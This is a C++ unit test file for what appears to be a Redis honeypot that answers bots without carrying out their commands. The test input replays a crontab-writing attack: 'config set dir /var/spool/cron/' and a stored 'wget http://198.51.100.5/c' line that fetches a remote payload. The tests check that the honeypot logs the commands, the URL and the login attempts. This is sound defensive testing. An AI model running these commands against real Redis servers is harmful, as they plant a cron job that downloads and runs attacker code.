// Redis: what bots do to write a crontab, answered and not done.
#include <doctest/doctest.h>

#include "observe/respond/test_talk.hpp"

namespace hinomi::observe {
namespace {

TEST_CASE("Respond redis_says_yes_and_keeps_nothing") {
  const Spoken spoken =
      speak(SessionProtocol::redis,
            {"*1\r\n$4\r\nPING\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n"
             "SET x \"wget http://198.51.100.5/c\"\r\nGET x\r\n\r\nnonsense\r\nQUIT\r\n"});
  CHECK(spoken.answered == "+PONG\r\n+OK\r\n+OK\r\n$-1\r\n-ERR unknown command\r\n+OK\r\n");
  CHECK(spoken.session.commands == std::vector<std::string>{"PING", "config set dir /var/spool/cron/",
                                                            "SET x \"wget http://198.51.100.5/c\"", "GET x",
                                                            "nonsense", "QUIT"});
  CHECK(spoken.session.addresses_named == std::vector<std::string>{"http://198.51.100.5/c"});
}

TEST_CASE("Respond redis_records_a_login_and_refuses_bad_lengths") {
  const std::string right = test_password("default", true), wrong = test_password("default", false);
  const Spoken spoken =
      speak(SessionProtocol::redis, {"AUTH " + wrong + "\r\nAUTH " + right + "\r\n*2\r\n$-5\r\n"});
  CHECK(spoken.answered == "-WRONGPASS invalid username-password pair\r\n+OK\r\n-ERR Protocol error\r\n");
  CHECK(spoken.session.credentials ==
        std::vector<CredentialTry>{{"default", wrong, false}, {"default", right, true}});
  CHECK(spoken.session.end == SessionEnd::malformed);
}

}  // namespace
}  // namespace hinomi::observe
